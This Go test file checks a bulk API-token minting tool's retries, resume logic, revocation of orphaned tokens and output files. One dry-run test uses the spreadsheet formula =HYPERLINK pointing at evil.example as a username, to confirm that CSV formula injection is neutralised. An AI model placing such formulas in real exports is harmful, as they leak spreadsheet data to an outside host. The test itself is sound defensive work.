package mint

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/axero-cli/axero/client"
	"github.com/axero-cli/axero/internal/job"
	"github.com/axero-cli/axero/internal/nametemplate"
	"github.com/axero-cli/axero/internal/reconcile"
	"github.com/axero-cli/axero/internal/tokenfile"
)

func fixedExpiry(expires string, now time.Time) (*int64, error) {
	switch expires {
	case "":
		m := int64(43200)
		return &m, nil
	case "bad":
		return nil, errors.New(`invalid expiry "bad"`)
	}
	m := int64(60)
	return &m, nil
}

func usersCSV(n int, extra ...string) string {
	var b strings.Builder
	b.WriteString("user\n")
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "%d\n", 1000+i)
	}
	for _, e := range extra {
		b.WriteString(e + "\n")
	}
	return b.String()
}

var fast = reconcile.Policy{Attempts: 6, Tries: 6, Wait: time.Millisecond, Backoff: time.Millisecond, Settle: time.Millisecond}

// runMint runs a minting of input into out against s, under ctx.
func runMintCtx(t *testing.T, ctx context.Context, s *fakeServer, input, out string, mod func(*Options)) (Summary, error) {
	t.Helper()
	in, err := tokenfile.NewUsers(strings.NewReader(input), "users.csv")
	if err != nil {
		t.Fatal(err)
	}
	o := Options{API: s, Resolver: s, Input: in, Out: out, Expiry: fixedExpiry, Workers: 8, Admin: 1, Retry: fast}
	if mod != nil {
		mod(&o)
	}
	if !o.DryRun {
		if o.Lock, err = job.AcquireLock(out); err != nil {
			return Summary{}, err
		}
	}
	run := job.New(ctx, 0, nil)
	defer run.Close()
	return Run(run, o)
}

func runMint(t *testing.T, s *fakeServer, input, out string, mod func(*Options)) (Summary, error) {
	t.Helper()
	return runMintCtx(t, context.Background(), s, input, out, mod)
}

func readRecords(t *testing.T, path string) []tokenfile.Record {
	t.Helper()
	f, err := os.Open(path) //nolint:gosec // the test's own file
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	var out []tokenfile.Record
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var r tokenfile.Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("bad record %q: %v", sc.Text(), err)
		}
		out = append(out, r)
	}
	return out
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p) //nolint:gosec // the test's own file
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// checkInvariant: every user with a record has exactly one active token,
// the one in the output with the same secret; every other user has none.
func checkInvariant(t *testing.T, s *fakeServer, recs []tokenfile.Record) {
	t.Helper()
	active := s.active()
	seen := map[int64]bool{}
	for _, r := range recs {
		if seen[r.UserID] {
			t.Errorf("user %d has two records", r.UserID)
		}
		seen[r.UserID] = true
		toks := active[r.UserID]
		if len(toks) != 1 {
			t.Errorf("user %d has %d active tokens, want 1", r.UserID, len(toks))
			continue
		}
		if toks[0].TokenID != r.TokenID || toks[0].secret != r.Token {
			t.Errorf("user %d: the active token %d is not the recorded %d", r.UserID, toks[0].TokenID, r.TokenID)
		}
	}
	for uid, toks := range active {
		if !seen[uid] {
			t.Errorf("user %d has %d active tokens but no record", uid, len(toks))
		}
	}
}

func TestMintWithFaultsKeepsTheInvariant(t *testing.T) {
	t.Parallel()
	s := newFakeServer(500)
	s.dropRate, s.fail500Rate, s.busyRate = 0.1, 0.05, 0.05
	out := filepath.Join(t.TempDir(), "out.jsonl")
	sum, err := runMint(t, s, usersCSV(500), out, nil)
	if err != nil {
		t.Fatal(err)
	}
	recs := readRecords(t, out)
	if sum.Minted != len(recs) || sum.Minted+sum.Failed != 500 || sum.LostRevoked == 0 {
		t.Fatalf("summary %+v, %d records", sum, len(recs))
	}
	checkInvariant(t, s, recs)
	if fi, err := os.Stat(out); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("output mode %v %v", fi.Mode(), err)
	}
	if bytes.Contains(mustRead(t, job.JournalPath(out)), []byte("eyJ")) {
		t.Fatal("the journal holds a secret")
	}
}

func TestCSVOutputAndItsResume(t *testing.T) {
	t.Parallel()
	s := newFakeServer(4)
	u := s.users[1001]
	u.UserName = "=cmd"
	s.users[1001] = u
	out := filepath.Join(t.TempDir(), "out.csv")
	if _, err := runMint(t, s, "user\n=cmd\n1002\n1003\n", out, nil); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(mustRead(t, out))).ReadAll()
	if err != nil || len(recs) != 4 || strings.Join(recs[0], ",") != "user,UserID,TokenID,name,expiry,token" {
		t.Fatalf("csv output %v %v", recs, err)
	}
	// A user whose name begins with = is recognised as done when the CSV
	// output is read back.
	sum, err := runMint(t, s, "user\n=cmd\n1002\n1003\n1004\n", out, func(o *Options) { o.Resume = true })
	if err != nil || sum.Skipped != 3 || sum.Minted != 1 {
		t.Fatalf("%+v %v", sum, err)
	}
}

func TestBadRowsGoToTheFailedFile(t *testing.T) {
	t.Parallel()
	s := newFakeServer(5)
	out := filepath.Join(t.TempDir(), "out.jsonl")
	input := "\ufeffUser , Expires,team\r\n" +
		"1001,,a\r\n" +
		"\r\n" +
		" user0002 , ,b\r\n" +
		"1001,,dup\r\n" +
		"user0001@example.com,,same-user\r\n" +
		"nobody,,c\r\n" +
		"9999,,d\r\n" +
		"1003,bad,e\r\n" +
		",,f\r\n" +
		"\"1004\",\"1d\",\"g, quoted\"\r\n"
	sum, err := runMint(t, s, input, out, func(o *Options) { o.Workers = 1 })
	if err != nil {
		t.Fatal(err)
	}
	if sum.Minted != 3 || sum.Failed != 4 || sum.Duplicates != 2 {
		t.Fatalf("summary %+v", sum)
	}
	rows, err := csv.NewReader(bytes.NewReader(mustRead(t, job.FailedPath(out)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], ","); got != "user,expires,team,reason" {
		t.Fatalf("failed header %q", got)
	}
	reasons := map[string]string{}
	for _, r := range rows[1:] {
		reasons[r[2]] = r[3]
	}
	want := map[string]string{"c": "no user matches", "d": "9999", "e": "invalid expiry", "f": "user column is empty"}
	for k, w := range want {
		if !strings.Contains(reasons[k], w) {
			t.Errorf("row %s: reason %q, want it to mention %q", k, reasons[k], w)
		}
	}
	// A row naming a user an earlier row took is not a failure to retry:
	// fed back, it would mint that user a second token.
	for _, k := range []string{"dup", "same-user"} {
		if r, ok := reasons[k]; ok {
			t.Errorf("duplicate row %s is in the failed file: %q", k, r)
		}
	}
	checkInvariant(t, s, readRecords(t, out))
}

// A resume checks, before minting, the tokens of every user the output
// does not hold, whatever the journal says: a token an earlier run minted
// and never recorded is revoked, with or without a journal to say so.
func TestResumeChecksEveryUnfinishedUser(t *testing.T) {
	t.Parallel()
	for _, journal := range []string{"intact", "deleted"} {
		s := newFakeServer(10)
		out := filepath.Join(t.TempDir(), "out.jsonl")
		// A first run: users 1001 and 1002 done, then killed.
		if _, err := runMint(t, s, usersCSV(2), out, func(o *Options) { o.Name = "n" }); err != nil {
			t.Fatal(err)
		}
		// What a killed run leaves besides: 1003 minted but never recorded,
		// with its intent journaled; 1004 minted, its intent lost too.
		lost3, _ := s.CreateUserToken(context.Background(), 1003, client.CreateTokenRequest{Name: "n"})
		lost4, _ := s.CreateUserToken(context.Background(), 1004, client.CreateTokenRequest{Name: "n"})
		switch journal {
		case "intact":
			f, _ := os.OpenFile(job.JournalPath(out), os.O_WRONLY|os.O_APPEND, 0) //nolint:gosec // the test's own file
			_ = f.Close()
		case "deleted":
			_ = os.Remove(job.JournalPath(out))
		}
		var warned string
		sum, err := runMint(t, s, usersCSV(10), out, func(o *Options) {
			o.Resume, o.Name = true, "n"
			o.Warn = func(m string) { warned = m }
		})
		if err != nil {
			t.Fatalf("%s: %v", journal, err)
		}
		if sum.Skipped != 2 || sum.Minted != 8 || sum.Rechecked != 8 || sum.LostRevoked != 2 {
			t.Fatalf("%s: summary %+v", journal, sum)
		}
		if !s.tokens[lost3.TokenID].revoked || !s.tokens[lost4.TokenID].revoked {
			t.Fatalf("%s: an unrecorded token is still active", journal)
		}
		if (journal == "deleted") != strings.Contains(warned, "is missing") {
			t.Errorf("%s: warning %q", journal, warned)
		}
		checkInvariant(t, s, readRecords(t, out))
	}
}

func TestForbiddenStopsTheRun(t *testing.T) {
	t.Parallel()
	s := newFakeServer(50)
	s.forbidden = true
	out := filepath.Join(t.TempDir(), "out.jsonl")
	_, err := runMint(t, s, usersCSV(50), out, nil)
	if client.KindOf(err) != client.KindForbidden {
		t.Fatalf("want the 403, got %v", err)
	}
	if s.creates > 8 {
		t.Fatalf("%d creates after the first 403; want at most one per worker", s.creates)
	}
}

// countingProgress cancels a run after n rows.
type countingProgress struct {
	n      int
	cancel context.CancelFunc
}

func (p *countingProgress) SetTotal(int64) {}
func (p *countingProgress) Step(int, int) {
	if p.n--; p.n == 0 {
		p.cancel()
	}
}

func TestInterruptRecordsTokensInFlight(t *testing.T) {
	t.Parallel()
	s := newFakeServer(200)
	out := filepath.Join(t.TempDir(), "out.jsonl")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	sum, err := runMintCtx(t, ctx, s, usersCSV(200), out, func(o *Options) {
		o.Workers, o.Progress = 4, &countingProgress{n: 20, cancel: cancel}
	})
	if err != nil || !sum.Interrupted {
		t.Fatalf("%+v %v", sum, err)
	}
	recs := readRecords(t, out)
	if len(recs) != sum.Minted || sum.Minted >= 200 {
		t.Fatalf("minted %d, recorded %d", sum.Minted, len(recs))
	}
	checkInvariant(t, s, recs)
}

func TestDryRunMintsNothing(t *testing.T) {
	t.Parallel()
	s := newFakeServer(3)
	u := s.users[1002]
	u.UserName = `=HYPERLINK("http://evil.example/?"&F2,"open")`
	s.users[1002] = u
	var plan bytes.Buffer
	tmpl, _ := nametemplate.Parse("{{.UserName}}")
	sum, err := runMint(t, s, usersCSV(3, "ghost"), "", func(o *Options) { o.DryRun, o.Plan, o.Template = true, &plan, tmpl })
	if err != nil || sum.Planned != 3 || sum.Failed != 1 || s.creates != 0 {
		t.Fatalf("%+v %v creates=%d", sum, err, s.creates)
	}
	if !strings.Contains(plan.String(), "1001,1001,user0001,") || !strings.Contains(plan.String(), "ghost,,,,\"no user matches") {
		t.Fatalf("plan:\n%s", plan.String())
	}
	if !strings.Contains(plan.String(), `"'=HYPERLINK(`) {
		t.Fatalf("a formula in the plan is not neutralised:\n%s", plan.String())
	}
}

func TestUnknownUserIDWithoutLookup(t *testing.T) {
	t.Parallel()
	s := newFakeServer(2)
	out := filepath.Join(t.TempDir(), "out.jsonl")
	sum, err := runMint(t, s, usersCSV(2, "9999"), out, func(o *Options) { o.Name = "fixed" })
	if err != nil || sum.Minted != 2 || sum.Failed != 1 {
		t.Fatalf("%+v %v", sum, err)
	}
	if b := mustRead(t, job.FailedPath(out)); !strings.Contains(string(b), "no user with UserID 9999") {
		t.Fatalf("failed file:\n%s", b)
	}
}

func TestUncheckableLostAnswerIsLeftForResume(t *testing.T) {
	t.Parallel()
	s := newFakeServer(1)
	s.dropRate, s.listErrRate = 1, 1
	out := filepath.Join(t.TempDir(), "out.jsonl")
	sum, err := runMint(t, s, usersCSV(1), out, func(o *Options) { o.Name = "n"; o.Retry.Attempts, o.Retry.Tries = 2, 2 })
	if err != nil || sum.Failed != 1 {
		t.Fatalf("%+v %v", sum, err)
	}
	if b := mustRead(t, job.FailedPath(out)); !strings.Contains(string(b), "run again with --resume to settle it") {
		t.Fatalf("failed file:\n%s", b)
	}
	if len(s.active()[1001]) != 1 {
		t.Fatal("the fake should hold the orphan")
	}
	// The server recovers; --resume settles the orphan, then mints.
	s.dropRate, s.listErrRate = 0, 0
	sum, err = runMint(t, s, usersCSV(1), out, func(o *Options) { o.Name = "n"; o.Resume = true })
	if err != nil || sum.Reconciled != 1 || sum.LostRevoked != 1 || sum.Minted != 1 {
		t.Fatalf("%+v %v", sum, err)
	}
	checkInvariant(t, s, readRecords(t, out))
	if _, err := os.Stat(job.FailedPath(out)); !errors.Is(err, os.ErrNotExist) {
		t.Fatal("a resumed run without failures should remove the stale failed file")
	}
}

// An unfinished create of a user no longer in the input is settled at
// the end of the resume all the same.
func TestResumeSettlesIntentsNoRowTakesCareOf(t *testing.T) {
	t.Parallel()
	s := newFakeServer(3)
	s.dropRate, s.listErrRate = 1, 1
	out := filepath.Join(t.TempDir(), "out.jsonl")
	if _, err := runMint(t, s, usersCSV(0, "1003"), out, func(o *Options) { o.Name = "n"; o.Retry.Attempts, o.Retry.Tries = 1, 1 }); err != nil {
		t.Fatal(err)
	}
	if len(s.active()[1003]) != 1 {
		t.Fatal("the fake should hold the orphan")
	}
	s.dropRate, s.listErrRate = 0, 0
	sum, err := runMint(t, s, usersCSV(1), out, func(o *Options) { o.Name = "n"; o.Resume = true })
	if err != nil || sum.Minted != 1 || sum.LostRevoked != 1 || sum.Reconciled != 1 || len(s.active()[1003]) != 0 {
		t.Fatalf("%+v %v", sum, err)
	}
}

func TestTransientListErrorsAreRetried(t *testing.T) {
	t.Parallel()
	s := newFakeServer(200)
	s.dropRate, s.listErrRate = 0.2, 0.3
	out := filepath.Join(t.TempDir(), "out.jsonl")
	sum, err := runMint(t, s, usersCSV(200), out, func(o *Options) { o.Name = "n"; o.Retry.Attempts, o.Retry.Tries = 10, 10 })
	if err != nil || sum.Minted != 200 {
		t.Fatalf("%+v %v", sum, err)
	}
	checkInvariant(t, s, readRecords(t, out))
}

func TestUserKey(t *testing.T) {
	t.Parallel()
	same := [][2]string{{"042", "42"}, {" JDoe ", "jdoe"}, {"A@Example.com", "a@example.com"}}
	for _, p := range same {
		if userKey(p[0]) != userKey(p[1]) {
			t.Errorf("%q and %q should be one user", p[0], p[1])
		}
	}
	if userKey("42") == userKey("user42") {
		t.Error("different users share a key")
	}
}

// A create answered with another user's token is an error for its row,
// and the stray token is revoked; a token the server hands out twice is
// recorded once, for the row that got it first, and not revoked.
func TestAnotherUsersTokenIsNotRecorded(t *testing.T) {
	t.Parallel()
	s := newFakeServer(3)
	s.strayFor, s.strayTo = 1002, 1003
	s.repeatFor = 1003
	out := filepath.Join(t.TempDir(), "out.jsonl")
	sum, err := runMint(t, s, "user\n1001\n1002\n1003\n", out, func(o *Options) { o.Name, o.Workers = "n", 1 })
	if err != nil || sum.Minted != 1 || sum.Failed != 2 {
		t.Fatalf("%+v %v", sum, err)
	}
	recs := readRecords(t, out)
	if len(recs) != 1 || recs[0].UserID != 1001 {
		t.Fatalf("records %+v", recs)
	}
	reasons := string(mustRead(t, job.FailedPath(out)))
	if !strings.Contains(reasons, "of UserID 1003, not of UserID 1002; it was revoked") || !strings.Contains(reasons, "token 5001, which is held already") {
		t.Fatalf("failed file:\n%s", reasons)
	}
	active := s.active()
	if len(active[1003]) != 0 || len(active[1002]) != 0 || len(active[1001]) != 1 {
		t.Fatalf("active tokens %v", active)
	}
}
